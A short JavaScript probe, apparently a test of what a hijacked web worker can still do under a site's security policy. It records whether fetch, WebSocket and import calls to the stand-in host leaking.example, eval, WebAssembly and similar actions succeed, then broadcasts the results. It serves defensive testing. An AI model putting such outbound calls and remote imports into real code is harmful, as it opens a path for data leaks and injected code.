// What stands in the worker's file once it is somebody else's.
const results = {};
const attempt = async (name, act) => {
  results[name] = await Promise.resolve().then(act).then(() => "done", (error) => error.name || "Error");
};
await attempt("fetch", () => fetch("https://leaking.example/worker", { mode: "no-cors" }));
await attempt("own fetch", () => fetch("/sign-in/"));
await attempt("xhr", () => new Promise((resolve, reject) => {
  const request = new XMLHttpRequest();
  request.onload = resolve;
  request.onerror = reject;
  request.open("GET", "/sign-in/");
  request.send();
}));
await attempt("websocket", () => new Promise((resolve, reject) => {
  const socket = new WebSocket("wss://leaking.example/worker");
  socket.onopen = resolve;
  socket.onerror = reject;
}));
await attempt("events", () => new Promise((resolve, reject) => {
  const events = new EventSource("/sign-in/");
  events.onopen = resolve;
  events.onerror = reject;
}));
await attempt("import", () => import("https://leaking.example/worker.js"));
await attempt("import of a page", () => import("/sign-in/"));
await attempt("import of data", () => import("data:text/javascript,1"));
await attempt("eval", () => eval("1"));
await attempt("worker", () => new Worker("/static/x.js"));
await attempt("policy", () => trustedTypes.createPolicy("worker-url", { createScriptURL: (url) => url }));
await attempt("wasm", () => WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])));
const tell = () => new BroadcastChannel("probe").postMessage(results);
tell();
setInterval(tell, 200);
